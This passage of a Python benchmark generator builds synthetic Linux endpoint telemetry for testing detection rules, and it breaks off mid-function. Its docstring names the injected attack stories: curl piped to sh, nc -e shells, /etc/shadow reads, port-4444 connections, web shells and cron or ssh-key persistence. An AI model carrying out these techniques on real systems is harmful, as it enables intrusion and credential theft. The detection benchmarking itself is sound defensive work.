"""Deterministic benchmark workload: Linux ECS telemetry and detection rules.

Why synthetic: recorded telemetry cannot be shipped or scaled, and a
benchmark is only comparable across commits if its input is identical.
Everything here derives from one ``random.Random(seed)``, never from set
iteration order, the clock or the environment, so a seed names a workload.

The stream imitates what an endpoint sensor sees on a few Linux servers:
long-lived daemons (systemd, sshd, cron, nginx, php-fpm, containerd, ...)
doing file and network I/O, interactive shell sessions and cron jobs whose
children start, touch files, connect and end, with real-looking command
lines whose arguments vary (file names, URLs, hosts, numbers) so that they
repeat only in part. A small rate of attack stories (curl piped to sh,
``nc -e``, execution from /tmp, /etc/shadow reads, connections to port 4444,
web shells, cron and ssh-key persistence) makes rules fire.

Two properties matter for the side-by-side comparison with ``eql``:

- every string is lower-case, so the case rules of Kestrel's Elasticsearch
  dialect (``==`` is case-sensitive) and eql's engine (case-insensitive
  everywhere) cannot disagree;
- the fields rules read are scalars present on every event of the category
  a rule reads them in (eql has no multi-valued semantics; ``process.args``
  is in the events but no rule reads it), and negations only test fields
  that are always present (Kestrel and eql both treat a comparison with a
  missing field as null, but a subtle difference there would hide in
  negations first).
"""

from __future__ import annotations

import gc
import random
from collections import deque
from typing import Callable

__all__ = ["generate_events", "single_event_rules", "sequence_rules", "flood_rules", "BASE_NS"]

# 2026-01-01T00:00:00Z: a fixed epoch, so timestamps depend on the seed only.
BASE_NS = 1_767_225_600_000_000_000

# ---------------------------------------------------------------------------
# vocabularies (all lower-case)
# ---------------------------------------------------------------------------
_HOSTS = (("web-01", "10.0.1.11", "web"), ("build-01", "10.0.2.21", "build"), ("dev-01", "10.0.3.31", "dev"))
_USERS = {"root": "0", "alice": "1000", "bob": "1001", "deploy": "1002", "www-data": "33", "jenkins": "110"}
_SESSION_USERS = ("alice", "alice", "bob", "deploy", "root")

_EXE = {
    "systemd": "/usr/lib/systemd/systemd", "systemd-journald": "/usr/lib/systemd/systemd-journald",
    "systemd-resolved": "/usr/lib/systemd/systemd-resolved", "systemd-tmpfiles": "/usr/bin/systemd-tmpfiles",
    "sshd": "/usr/sbin/sshd", "cron": "/usr/sbin/cron", "rsyslogd": "/usr/sbin/rsyslogd", "nginx": "/usr/sbin/nginx",
    "php-fpm": "/usr/sbin/php-fpm8.2", "dockerd": "/usr/bin/dockerd", "containerd": "/usr/bin/containerd",
    "containerd-shim": "/usr/bin/containerd-shim-runc-v2", "runc": "/usr/bin/runc",
    "java": "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "node": "/usr/bin/node", "chronyd": "/usr/sbin/chronyd",
    "bash": "/usr/bin/bash", "sh": "/usr/bin/sh", "ls": "/usr/bin/ls", "cat": "/usr/bin/cat", "grep": "/usr/bin/grep",
    "awk": "/usr/bin/awk", "sed": "/usr/bin/sed", "tar": "/usr/bin/tar", "gzip": "/usr/bin/gzip", "find": "/usr/bin/find",
    "git": "/usr/bin/git", "git-remote-https": "/usr/lib/git-core/git-remote-https", "vim": "/usr/bin/vim",
    "python3": "/usr/bin/python3", "perl": "/usr/bin/perl", "curl": "/usr/bin/curl", "wget": "/usr/bin/wget",
    "make": "/usr/bin/make", "gcc": "/usr/bin/gcc", "cc1": "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "as": "/usr/bin/as",
    "collect2": "/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "ld": "/usr/bin/ld", "ar": "/usr/bin/ar",
    "sudo": "/usr/bin/sudo", "ssh": "/usr/bin/ssh", "apt": "/usr/bin/apt", "http": "/usr/lib/apt/methods/http",
    "dpkg": "/usr/bin/dpkg", "dpkg-deb": "/usr/bin/dpkg-deb", "gpgv": "/usr/bin/gpgv", "docker": "/usr/bin/docker",
    "systemctl": "/usr/bin/systemctl", "ps": "/usr/bin/ps", "less": "/usr/bin/less", "head": "/usr/bin/head",
    "tail": "/usr/bin/tail", "cp": "/usr/bin/cp", "mv": "/usr/bin/mv", "rm": "/usr/bin/rm", "chmod": "/usr/bin/chmod",
    "mkdir": "/usr/bin/mkdir", "du": "/usr/bin/du", "df": "/usr/bin/df", "id": "/usr/bin/id", "uname": "/usr/bin/uname",
    "whoami": "/usr/bin/whoami", "env": "/usr/bin/env", "date": "/usr/bin/date", "run-parts": "/usr/bin/run-parts",
    "logrotate": "/usr/sbin/logrotate", "nc": "/usr/bin/nc.openbsd", "base64": "/usr/bin/base64", "crontab": "/usr/bin/crontab",
    "uptime": "/usr/bin/uptime", "hostname": "/usr/bin/hostname", "sort": "/usr/bin/sort", "wc": "/usr/bin/wc",
}

_HOME_FILES = ("notes.txt", "report.csv", "main.c", "util.c", "util.h", "app.py", "config.yaml", "readme.md",
               "data.json", "backup.sql", "index.js", "server.log", "requirements.txt", "setup.py", "todo.md",
               "package.json", "docker-compose.yml", "deploy.sh", "test_api.py", "schema.sql")
_HOME_DIRS = ("src", "projects/kestrel", "projects/api", "work", "downloads", "docs", "build", "scripts", "projects/site")
_ETC_FILES = ("/etc/passwd", "/etc/group", "/etc/hosts", "/etc/resolv.conf", "/etc/os-release", "/etc/fstab",
              "/etc/nginx/nginx.conf", "/etc/ssh/sshd_config", "/etc/crontab", "/etc/hostname", "/etc/nsswitch.conf",
              "/etc/localtime", "/etc/environment", "/etc/login.defs", "/etc/apt/sources.list")
_LOGS = ("/var/log/syslog", "/var/log/auth.log", "/var/log/kern.log", "/var/log/nginx/access.log",
         "/var/log/nginx/error.log", "/var/log/dpkg.log", "/var/log/apt/history.log", "/var/log/php8.2-fpm.log")
_LIBS = ("/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/x86_64-linux-gnu/libselinux.so.1",
         "/usr/lib/x86_64-linux-gnu/libpcre2-8.so.0", "/usr/lib/x86_64-linux-gnu/libz.so.1",
         "/usr/lib/x86_64-linux-gnu/libssl.so.3", "/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
         "/usr/lib/x86_64-linux-gnu/libtinfo.so.6", "/usr/lib/locale/locale-archive")
_WORDS = ("error", "warning", "todo", "main", "import", "def", "timeout", "failed", "user", "password", "ssh", "nginx",
          "root", "session", "connect", "http", "config", "version", "debug", "200", "404", "500")
_WEB_HOSTS = ("github.com", "api.github.com", "pypi.org", "files.pythonhosted.org", "registry.npmjs.org",
              "deb.debian.org", "security.debian.org", "example.com", "cdn.jsdelivr.net", "raw.githubusercontent.com",
              "objects.githubusercontent.com", "download.docker.com", "storage.googleapis.com", "s3.amazonaws.com",
              "releases.hashicorp.com", "dl.google.com", "nodejs.org", "get.helm.sh")
_PACKAGES = ("requests", "flask", "numpy", "pandas", "django", "boto3", "pyyaml", "jinja2", "pytest", "black",
             "htop", "jq", "nginx", "curl", "git", "make", "postgresql-client", "redis-tools", "tree", "unzip")
_REPOS = ("kestrel", "api", "site", "infra", "tools", "dotfiles", "ansible", "terraform", "docs", "backend")
_INTERNAL = ("db-01", "db-02", "cache-01", "git.internal", "build-01", "web-01", "bastion", "monitor-01")
_PUBLIC_NETS = ("140.82.112.", "140.82.113.", "151.101.0.", "151.101.64.", "185.199.108.", "104.16.24.",
                "52.216.8.", "34.117.59.", "13.107.42.", "199.232.18.", "146.75.38.", "172.217.16.")
_IPV6 = ("2606:4700::6810:85e5", "2a04:4e42:200::223", "2001:67c:2564:a119::148", "2a04:4e42::644",
         "2606:50c0:8000::154")
_NET_DAEMON_WEIGHT = {"nginx": 6, "php-fpm": 3, "sshd": 1, "systemd-resolved": 3, "chronyd": 1, "dockerd": 1,
                      "containerd": 1, "java": 3, "node": 3}
_EVIL_NETS = ("203.0.113.", "198.51.100.", "45.9.148.", "185.220.101.")


def _lower(seq: list[str]) -> list[str]:
    return [s.lower() for s in seq if s]


class _Host:
    """One simulated machine: its identity and pid counter."""

    __slots__ = ("name", "id", "ip", "role", "next_pid", "daemons")

    def __init__(self, name: str, hid: str, ip: str, role: str) -> None:
        self.name, self.id, self.ip, self.role = name, hid, ip, role
        self.next_pid = 400
        self.daemons: dict[str, _Proc] = {}


class _Proc:
    """A simulated process: what its events say about it and what it still
    has to do (file and network actions, children) before it ends."""

    __slots__ = ("host", "pid", "entity_id", "name", "executable", "args", "cwd", "user", "parent",
                 "files", "nets", "kids", "session", "lite", "full", "daemon", "alive")

    def __init__(self, host: _Host, pid: int, entity_id: str, name: str, executable: str, args: list[str],
                 cwd: str, user: str, parent: "_Proc | None") -> None:
        self.host, self.pid, self.entity_id, self.name = host, pid, entity_id, name
        self.executable, self.args, self.cwd, self.user, self.parent = executable, args, cwd, user, parent
        self.files = self.nets = self.kids = 0
        self.session = self.daemon = False
        self.alive = True
        p = parent
        par = {"pid": p.pid, "entity_id": p.entity_id, "name": p.name, "executable": p.executable} if p else None
        # The process fields as file/network events carry them (no argv),
        # and as process events carry them; copied per event.
        self.lite = {"pid": pid, "entity_id": entity_id, "name": name, "executable": executable}
        self.full = dict(self.lite, command_line=" ".join(args), args=args, args_count=len(args), working_directory=cwd)
        if par is not None:
            self.lite["parent"] = par
            self.full["parent"] = dict(par, command_line=" ".join(p.args))  # type: ignore[union-attr]


class _Generator:
    """The simulation state; ``run`` returns ``n`` events."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.ts = BASE_NS
        self.seq = 0
        self.entity_counter = 0
        self.salt = self.rng.getrandbits(64)
        self.out: list[dict] = []
        self.hosts = [_Host(n, f"{self.rng.getrandbits(128):032x}", ip, role) for n, ip, role in _HOSTS]
        self.public_ips = [net + str(self.rng.randint(1, 254)) for net in _PUBLIC_NETS for _ in range(6)]
        self.internal_ips = {h: f"10.0.{self.rng.randint(4, 9)}.{self.rng.randint(2, 250)}" for h in _INTERNAL}
        # Live processes that still have file/network actions or children
        # to start (entries of ended ones are dropped lazily when drawn),
        # the ones that are done, and every live one in start order: a
        # process that outlives the population bound is ended with work
        # left, as a killed or short-cut process would be.
        self.file_busy: list[_Proc] = []
        self.net_busy: list[_Proc] = []
        self.spawners: dict[str, list[_Proc]] = {}
        self.done: deque[_Proc] = deque()
        self.live: deque[_Proc] = deque()
        self.n_live = 0
        self.n_sessions = 0
        self.daemons: list[_Proc] = []
        self.net_daemons: list[_Proc] = []
        for h in self.hosts:
            self._boot(h)

    # -- identities ------------------------------------------------------
    def _entity_id(self) -> str:
        # A bijection of a counter: unique by construction, random-looking.
        self.entity_counter += 1
        return f"{((self.entity_counter * 0x9E3779B97F4A7C15) ^ self.salt) & 0xFFFFFFFFFFFFFFFF:016x}"

    def _new_proc(self, host: _Host, name: str, args: list[str], cwd: str, user: str, parent: _Proc | None,
                  executable: str | None = None, pid: int | None = None) -> _Proc:
        if pid is None:
            host.next_pid += self.rng.randint(1, 7)
            if host.next_pid > 4_194_000:
                host.next_pid = 400
            pid = host.next_pid
        return _Proc(host, pid, self._entity_id(), name, executable or _EXE.get(name, "/usr/bin/" + name),
                     _lower(args), cwd, user, parent)

    def _boot(self, h: _Host) -> None:
        """Daemons that were running before the recording started: they act
        but their start is not in the stream."""
        systemd = self._new_proc(h, "systemd", ["/sbin/init"], "/", "root", None, pid=1)
        systemd.daemon = True
        h.daemons["systemd"] = systemd
        names = ["systemd-journald", "systemd-resolved", "cron", "sshd", "rsyslogd", "chronyd"]
        names += {"web": ["nginx", "php-fpm"], "build": ["dockerd", "containerd", "java"], "dev": ["node", "containerd"]}[h.role]
        argv = {"sshd": ["sshd: /usr/sbin/sshd -d"], "cron": ["/usr/sbin/cron", "-f"], "nginx": ["nginx: master process /usr/sbin/nginx"],
                "php-fpm": ["php-fpm: pool www"], "java": ["java", "-jar", "/usr/share/jenkins/jenkins.war", "--httpport=8080"],
                "node": ["node", "/srv/app/server.js"], "dockerd": ["/usr/bin/dockerd", "-h", "fd://"],
                "containerd": ["/usr/bin/containerd"], "rsyslogd": ["/usr/sbin/rsyslogd", "-n", "-inone"],
                "chronyd": ["/usr/sbin/chronyd", "-f", "/etc/chrony/chrony.conf"]}
        users = {"php-fpm": "www-data", "nginx": "www-data", "java": "jenkins", "node": "deploy"}
        for name in names:
            p = self._new_proc(h, name, argv.get(name, [_EXE[name]]), "/", users.get(name, "root"), systemd)
            p.daemon = True
            h.daemons[name] = p
            self.daemons.append(p)
            # Servers and resolvers talk much, the rest of the daemons not.
            self.net_daemons += [p] * _NET_DAEMON_WEIGHT.get(name, 0)
        for name in ("systemd", "cron", "sshd", "containerd", "php-fpm"):
            if name in h.daemons:
                self.spawners.setdefault(name, []).append(h.daemons[name])

    # -- events ----------------------------------------------------------
    def _event(self, category: str, etype: str, action: str, p: _Proc, full: bool) -> dict:
        self.seq += 1
        self.ts += self.rng.randint(50_000, 500_000)
        h = p.host
        proc = dict(p.full if full else p.lite)
        if "parent" in proc:
            proc["parent"] = dict(proc["parent"])
        e = {
            "@timestamp": self.ts,
            "event": {"id": self.seq, "kind": "event", "category": category, "type": etype, "action": action, "outcome": "success"},
            "host": {"name": h.name, "id": h.id, "os": {"type": "linux", "family": "debian"}},
            "process": proc,
            "user": {"id": _USERS[p.user], "name": p.user},
        }
        self.out.append(e)
        return e

    def _start(self, p: _Proc) -> None:
        self._event("process", "start", "exec", p, True)

    def _end(self, p: _Proc, code: int = 0) -> None:
        e = self._event("process", "end", "end", p, True)
        e["process"]["exit_code"] = code

    def _file(self, p: _Proc, path: str, etype: str = "access") -> None:
        action = {"access": "open", "creation": "creation", "change": "change", "deletion": "deletion"}[etype]
        e = self._event("file", etype, action, p, False)
        directory, _, name = path.rpartition("/")
        f = {"path": path, "name": name, "directory": directory or "/"}
        dot = name.rfind(".")
        if dot > 0:
            f["extension"] = name[dot + 1:]
        e["file"] = f

    def _net(self, p: _Proc, dst: str, port: int, transport: str = "tcp", inbound: str | None = None) -> None:
        e = self._event("network", "connection", "connection_accepted" if inbound else "connection_attempted", p, False)
        v6 = ":" in dst
        if inbound:  # someone connected to us: the remote side is the source
            src, sport, dst, port = inbound, self.rng.randint(32768, 60999), p.host.ip, port
        else:
            src, sport = ("::" if v6 else p.host.ip), self.rng.randint(32768, 60999)
        e["source"] = {"ip": src, "port": sport}
        e["destination"] = {"ip": dst, "port": port}
        e["network"] = {"transport": transport, "type": "ipv6" if v6 else "ipv4", "direction": "ingress" if inbound else "egress"}

    # -- benign behaviour --------------------------------------------------
    def _home(self, user: str) -> str:
        return "/root" if user == "root" else f"/home/{user}"

    def _home_file(self, p: _Proc) -> str:
        r = self.rng
        return f"{self._home(p.user)}/{r.choice(_HOME_DIRS)}/{r.choice(_HOME_FILES)}"

    def _url(self) -> str:
        r = self.rng
        host = r.choice(_WEB_HOSTS)
        kind = r.random()
        if kind < 0.3:
            return f"https://{host}/{r.choice(_REPOS)}/releases/download/v{r.randint(0, 4)}.{r.randint(0, 20)}.{r.randint(0, 9)}/{r.choice(_REPOS)}-linux-amd64.tar.gz"
        if kind < 0.55:
            return f"https://{host}/api/v{r.randint(1, 3)}/{r.choice(('items', 'users', 'status', 'health', 'metrics'))}?page={r.randint(1, 40)}"
        if kind < 0.75:
            return f"https://{host}/{r.choice(_PACKAGES)}/{r.choice(_PACKAGES)}-{r.randint(1, 9)}.{r.randint(0, 30)}.json"
        return f"http://{r.choice(_INTERNAL)}:{r.choice((8080, 9090, 3000, 8000))}/{r.choice(('health', 'metrics', 'ready', 'v1/jobs'))}"

    def _argv(self, name: str, p: _Proc) -> list[str]:
        """A real-looking argv for a tool, with varied arguments."""
        r = self.rng
        hf = self._home_file
        c = r.choice
        if name == "ls":
            return ["ls", c(("-la", "-l", "-lah", "-1", "--color=auto", "-lt")), c((".", "..", "/var/log", "/etc", self._home(p.user) + "/" + c(_HOME_DIRS)))]
        if name in ("cat", "less", "head", "tail"):
            flag = {"head": ["-n", str(r.randint(5, 100))], "tail": [c(("-n", "-f")), str(r.randint(10, 500))]}.get(name, [])
            return [name, *flag, c((hf(p), c(_ETC_FILES), c(_LOGS)))]
        if name == "grep":
            return ["grep", c(("-r", "-i", "-n", "-rn", "-v", "-c", "-e")), c(_WORDS), c((hf(p), c(_LOGS), "."))]
        if name == "awk":
            return ["awk", c(("-f:", "-f,", "")), "{print $" + str(r.randint(1, 9)) + "}", c((c(_LOGS), hf(p)))]
        if name == "sed":
            return ["sed", "-i", f"s/{c(_WORDS)}/{c(_WORDS)}/g", hf(p)]
        if name == "vim":
            return ["vim", hf(p)]
        if name == "git":
            sub = c(("status", "pull", "push origin main", "fetch --all", f"log --oneline -n {r.randint(5, 50)}", "diff",
                     f"commit -m fix-{r.randint(1, 999)}", f"checkout -b feature-{r.randint(1, 999)}",
                     f"clone https://github.com/{c(_REPOS)}/{c(_REPOS)}.git"))
            return ["git", *sub.split()]
        if name == "git-remote-https":
            return ["git-remote-https", "origin", f"https://github.com/{c(_REPOS)}/{c(_REPOS)}.git"]
        if name == "curl":
            return ["curl", *c((["-s"], ["-sk"], ["-s", "-o", f"/tmp/{c(_PACKAGES)}-{r.randint(1, 99)}.json"], ["--silent", "--location"], ["-i"])), self._url()]
        if name == "wget":
            return ["wget", "-q", self._url()]
        if name == "python3":
            return ["python3", *c((["manage.py", "runserver", f"0.0.0.0:{r.randint(8000, 8100)}"], ["app.py"], ["-m", "pip", "install", c(_PACKAGES)],
                                   ["-m", "pytest", "-q", f"tests/test_{c(_REPOS)}.py"], ["setup.py", "build"], [f"scripts/job_{r.randint(1, 300)}.py"],
                                   ["-c", "import sys; print(sys.version)"]))]
        if name == "perl":
            return ["perl", c((f"/usr/share/perl5/script_{r.randint(1, 50)}.pl", "-e", "-ne")), c(("", "print", c(_WORDS)))]
        if name == "make":
            return ["make", c(("-j4", "all", "install", "clean", "test", f"-j{r.randint(2, 16)}"))]
        if name in ("gcc", "cc1", "as"):
            src = c(("main", "util", "parser", "lexer", "net", "io", "alloc")) + str(r.randint(0, 30))
            return [name, "-o2", "-c", f"{src}.c", "-o", f"{src}.o"] if name == "gcc" else [name, f"/tmp/cc{r.getrandbits(24):06x}.s"]
        if name in ("collect2", "ld"):
            return [name, "-o", c(("app", "server", "kestrel-agent", "test-runner")), "main.o", "util.o", "-lc"]
        if name == "ar":
            return ["ar", "rcs", "libutil.a", "util.o"]
        if name == "sudo":
            return ["sudo", *c((["apt", "update"], ["systemctl", "restart", c(("nginx", "php8.2-fpm", "docker", "cron"))], ["tail", "-f", "/var/log/syslog"], ["vim", "/etc/hosts"]))]
        if name == "ssh":
            return ["ssh", c(("", "-p", "-i")), c((f"{c(_SESSION_USERS)}@{c(_INTERNAL)}", c(_INTERNAL), "git@github.com"))]
        if name == "apt":
            return ["apt", c(("update", "upgrade", "install", "list")), c(("", "-y", c(_PACKAGES)))]
        if name == "http":
            return ["/usr/lib/apt/methods/http"]
        if name == "dpkg":
            return ["dpkg", "--status-fd", str(r.randint(20, 40)), "--configure", "--pending"]
        if name == "dpkg-deb":
            return ["dpkg-deb", "--fsys-tarfile", f"/var/cache/apt/archives/{c(_PACKAGES)}_{r.randint(1, 9)}.{r.randint(0, 20)}_amd64.deb"]
        if name == "gpgv":
            return ["gpgv", "--keyring", "/etc/apt/trusted.gpg.d/debian-archive.gpg", f"/tmp/apt.sig.{r.getrandbits(20):05x}"]
        if name == "tar":
            return ["tar", c(("czf", "xzf", "tf", "cjf")), f"/var/backups/{c(_REPOS)}-{r.randint(1, 31):02d}.tar.gz", c(_HOME_DIRS)]
        if name == "gzip":
            return ["gzip", "-9", c(_LOGS) + "." + str(r.randint(1, 9))]
        if name == "find":
            return ["find", c(("/var/log", "/tmp", ".", "/home")), "-name", c(("*.log", "*.tmp", "*.py", "*.gz")), "-mtime", f"+{r.randint(1, 30)}"]
        if name == "docker":
            return ["docker", *c((["ps"], ["images"], ["pull", f"{c(_REPOS)}:{r.randint(1, 9)}.{r.randint(0, 9)}"], ["logs", f"{c(_REPOS)}-{r.randint(1, 5)}"],
                                  ["build", "-t", f"{c(_REPOS)}:latest", "."], ["compose", "up", "-d"]))]
        if name == "node":
            return ["node", c(("server.js", "build.js", f"scripts/migrate-{r.randint(1, 40)}.js", "/usr/lib/node_modules/npm/bin/npm-cli.js"))]
        if name == "java":
            return ["java", f"-xmx{r.choice((512, 1024, 2048))}m", "-jar", f"/opt/app/{c(_REPOS)}-{r.randint(1, 5)}.jar"]
        if name == "systemctl":
            return ["systemctl", c(("status", "restart", "reload", "is-active")), c(("nginx", "php8.2-fpm", "docker", "cron", "ssh"))]
        if name in ("cp", "mv"):
            return [name, hf(p), hf(p)]
        if name == "rm":
            return ["rm", c(("-f", "-rf", "")), c((hf(p), f"/tmp/{c(_PACKAGES)}-{r.randint(1, 99)}.json"))]
        if name == "chmod":
            return ["chmod", c(("644", "755", "600", "+x", "-r")), hf(p)]
        if name == "mkdir":
            return ["mkdir", "-p", f"{self._home(p.user)}/{c(_HOME_DIRS)}/{c(_REPOS)}-{r.randint(1, 99)}"]
        if name == "run-parts":
            return ["run-parts", "--report", c(("/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly"))]
        if name == "logrotate":
            return ["logrotate", "/etc/logrotate.conf"]
        if name == "systemd-tmpfiles":
            return ["systemd-tmpfiles", "--clean"]
        if name == "containerd-shim":
            return ["containerd-shim-runc-v2", "-namespace", "moby", "-id", f"{r.getrandbits(64):016x}"]
        if name == "runc":
            return ["runc", "--root", "/var/run/docker/runtime-runc/moby", c(("start", "create", "delete")), f"{r.getrandbits(64):016x}"]
        if name == "sh":
            script = c((f"/usr/local/bin/backup-{c(_REPOS)}.sh", "/etc/cron.hourly/logcheck", f"./scripts/deploy-{r.randint(1, 20)}.sh",
                        "cd / && run-parts --report /etc/cron.hourly", f"test -x /usr/sbin/anacron || /usr/lib/{c(_REPOS)}/job"))
            return ["sh", "-c", script] if " " in script else ["sh", script]
        if name == "bash":
            return ["bash", c(("", "-l", f"./scripts/build-{r.randint(1, 20)}.sh"))]
        if name in ("du", "df"):
            return [name, "-h", c((".", "/var", "/home", "/"))]
        if name in ("date", "id", "uname", "whoami", "env", "ps", "uptime", "hostname"):
            extra = {"ps": c(("aux", "-ef", "-u " + p.user)), "uname": c(("-a", "-r", "")), "date": c(("+%s", "-u", ""))}.get(name, "")
            return [name, *extra.split()]
        if name in ("sort", "wc"):
            return [name, c(("-n", "-l", "-u", "")), c(_LOGS)]
        return [name]

    # Which children a spawner starts (weights), and how busy each tool is.
    _CHILDREN: dict[str, tuple[tuple[str, int], ...]] = {
        "bash": (("ls", 12), ("cat", 8), ("grep", 8), ("git", 7), ("vim", 4), ("python3", 5), ("curl", 4), ("wget", 1),
                 ("make", 2), ("sudo", 3), ("ssh", 2), ("tar", 1), ("awk", 3), ("sed", 2), ("ps", 3), ("find", 2),
                 ("node", 1), ("docker", 2), ("less", 2), ("cp", 2), ("mv", 1), ("rm", 2), ("chmod", 1), ("mkdir", 1),
                 ("head", 2), ("tail", 2), ("du", 1), ("df", 1), ("perl", 1), ("id", 1), ("uname", 1), ("whoami", 1),
                 ("env", 1), ("sh", 1), ("bash", 1), ("sort", 1), ("wc", 1), ("hostname", 1), ("uptime", 1)),
        "sh": (("tar", 3), ("gzip", 3), ("find", 3), ("rm", 2), ("cp", 2), ("date", 2), ("cat", 2), ("grep", 2),
               ("sed", 2), ("awk", 1), ("run-parts", 1), ("logrotate", 1), ("curl", 1), ("python3", 1), ("mkdir", 1), ("sort", 1)),
        "make": (("gcc", 6), ("sh", 2), ("ar", 1), ("rm", 1), ("mkdir", 1)),
        "gcc": (("cc1", 2), ("as", 2), ("collect2", 1)),
        "collect2": (("ld", 1),),
        "sudo": (("apt", 3), ("systemctl", 3), ("cat", 1), ("vim", 1), ("tail", 1), ("docker", 1)),
        "apt": (("http", 3), ("dpkg", 2), ("gpgv", 1)),
        "dpkg": (("dpkg-deb", 2), ("sh", 1)),
        "git": (("git-remote-https", 2), ("ssh", 1), ("less", 1), ("vim", 1)),
        "python3": (("sh", 2), ("git", 1), ("uname", 1)),
        "node": (("sh", 2), ("git", 1)),
        "cron": (("sh", 1),),
        "systemd": (("systemd-tmpfiles", 1), ("logrotate", 1), ("apt", 1)),
        "sshd": (("bash", 1),),
        "containerd": (("containerd-shim", 1),),
        "containerd-shim": (("runc", 1),),
    }
    _SPAWN_WEIGHT = {"bash": 40, "sh": 10, "make": 6, "gcc": 6, "collect2": 3, "sudo": 4, "apt": 3, "dpkg": 2, "git": 3,
                     "python3": 2, "node": 1, "cron": 2, "systemd": 2, "sshd": 2, "containerd": 1, "containerd-shim": 1}
    # (file actions, network actions, children) ranges per tool.
    _BUSY = {
        "ls": ((1, 3), (0, 0)), "cat": ((1, 3), (0, 0)), "grep": ((1, 6), (0, 0)), "vim": ((2, 8), (0, 0)),
        "git": ((3, 10), (0, 1)), "git-remote-https": ((1, 3), (1, 2)), "curl": ((0, 2), (1, 2)), "wget": ((1, 2), (1, 2)),
        "make": ((2, 8), (0, 0)), "gcc": ((2, 6), (0, 0)), "cc1": ((3, 10), (0, 0)), "as": ((2, 3), (0, 0)),
        "collect2": ((1, 2), (0, 0)), "ld": ((3, 8), (0, 0)), "tar": ((5, 20), (0, 0)), "python3": ((3, 15), (0, 3)),
        "apt": ((5, 15), (0, 0)), "http": ((1, 4), (2, 6)), "dpkg": ((5, 20), (0, 0)), "dpkg-deb": ((3, 10), (0, 0)),
        "node": ((5, 15), (0, 3)), "java": ((5, 20), (1, 4)), "ssh": ((1, 3), (1, 1)), "sudo": ((2, 4), (0, 0)),
        "docker": ((1, 3), (1, 3)), "find": ((3, 12), (0, 0)), "gzip": ((2, 2), (0, 0)), "sed": ((2, 3), (0, 0)),
        "awk": ((1, 3), (0, 0)), "less": ((1, 2), (0, 0)), "head": ((1, 2), (0, 0)), "tail": ((1, 2), (0, 0)),
        "cp": ((2, 3), (0, 0)), "mv": ((1, 2), (0, 0)), "rm": ((1, 3), (0, 0)), "logrotate": ((4, 12), (0, 0)),
        "systemd-tmpfiles": ((3, 10), (0, 0)), "gpgv": ((2, 3), (0, 0)), "systemctl": ((1, 3), (0, 0)),
        "perl": ((2, 5), (0, 1)), "run-parts": ((1, 4), (0, 0)), "sort": ((1, 2), (0, 0)), "wc": ((1, 2), (0, 0)),
        "bash": ((1, 4), (0, 0)), "sh": ((1, 3), (0, 0)), "runc": ((2, 6), (0, 0)), "containerd-shim": ((2, 5), (0, 0)),
        "mkdir": ((1, 1), (0, 0)), "chmod": ((1, 1), (0, 0)),
    }
    _KIDS = {"bash": (2, 12), "sh": (1, 5), "make": (2, 10), "gcc": (1, 3), "collect2": (1, 1), "sudo": (1, 1),
             "apt": (1, 5), "dpkg": (1, 3), "git": (0, 2), "python3": (0, 2), "node": (0, 2), "containerd-shim": (1, 1)}

    def _draw(self, lst: list[_Proc], has_work: Callable[[_Proc], bool]) -> _Proc | None:
        """A random entry of ``lst`` that is alive and has work; others are
        swap-removed on the way (O(1) each)."""
        r = self.rng
        while lst:
            i = r.randrange(len(lst))
            p = lst[i]
            if p.alive and has_work(p):
                return p
            lst[i] = lst[-1]
            lst.pop()
        return None

    def _spawn(self) -> None:
        r = self.rng
        kinds = [k for k in self.spawners if self.spawners[k] and k != "sshd"]
        weights = [self._SPAWN_WEIGHT.get(k, 1) for k in kinds]
        # Keep a handful of interactive sessions alive: sshd starts one
        # when there are fewer.
        if self.n_sessions < 6:
            kinds.append("sshd")
            weights.append(40)
        kind = r.choices(kinds, weights)[0]
        parent = self._draw(self.spawners[kind], lambda p: p.daemon or p.kids > 0)
        if parent is None or kind == "php-fpm":  # php-fpm does not fork on benign traffic
            parent = r.choice(self.hosts).daemons["cron"]
        self._spawn_from(parent)

    def _spawn_from(self, parent: _Proc) -> None:
        r = self.rng
        table = self._CHILDREN.get(parent.name)
        if not table:
            return
        name = r.choices([n for n, _ in table], [w for _, w in table])[0]
        user = "root" if parent.name in ("sudo", "systemd", "cron", "containerd", "containerd-shim") else parent.user
        if parent.name == "sshd":
            user = r.choice(_SESSION_USERS)
        if parent.name == "cron" and r.random() < 0.3:
            user = r.choice(("alice", "deploy"))
        cwd = parent.cwd
        if parent.session:
            cwd = r.choice((self._home(user), f"{self._home(user)}/{r.choice(_HOME_DIRS)}"))
        elif parent.name == "sshd":
            cwd = self._home(user)
        p = self._new_proc(parent.host, name, self._argv(name, parent), cwd, user, parent)
        self._start(p)
        if parent.name == "sshd":  # an interactive session: long-lived, many commands
            p.session = True
            self.n_sessions += 1
            p.kids = r.randint(20, 120)
            p.files = r.randint(1, 3)
        else:
            f, n = self._BUSY.get(name, ((0, 2), (0, 0)))
            p.files, p.nets = r.randint(*f), r.randint(*n)
            lo, hi = self._KIDS.get(name, (0, 0))
            p.kids = r.randint(lo, hi)
        if parent.kids > 0:
            parent.kids -= 1
            self._check_done(parent)
        self._enlist(p)

    def _enlist(self, p: _Proc) -> None:
        self.live.append(p)
        self.n_live += 1
        if p.files:
            self.file_busy.append(p)
        if p.nets:
            self.net_busy.append(p)
        if p.kids:
            self.spawners.setdefault(p.name, []).append(p)
        self._check_done(p)

    def _check_done(self, p: _Proc) -> None:
        if not (p.files or p.nets or p.kids or p.daemon):
            self.done.append(p)

    def _pop_endable(self) -> _Proc | None:
        """The next process to end: one that is done, else the oldest live
        one (sessions live on until their commands are done)."""
        while self.done:
            p = self.done.popleft()
            if p.alive:
                return p
        for _ in range(len(self.live)):
            p = self.live.popleft()
            if not p.alive:
                continue
            if p.session and p.kids > 0:
                self.live.append(p)
                continue
            return p
        return None

    def _process_step(self) -> None:
        r = self.rng
        if self.n_live > 250 or (self.n_live > 30 and r.random() < 0.5):
            p = self._pop_endable()
            if p is not None:
                p.alive = False
                self.n_live -= 1
                if p.session:
                    self.n_sessions -= 1
                self._end(p, 0 if r.random() < 0.93 else r.choice((1, 2, 127, 130)))
                return
        self._spawn()

    def _file_step(self) -> None:
        r = self.rng
        p = self._draw(self.file_busy, lambda q: q.files > 0) if r.random() < 0.75 else None
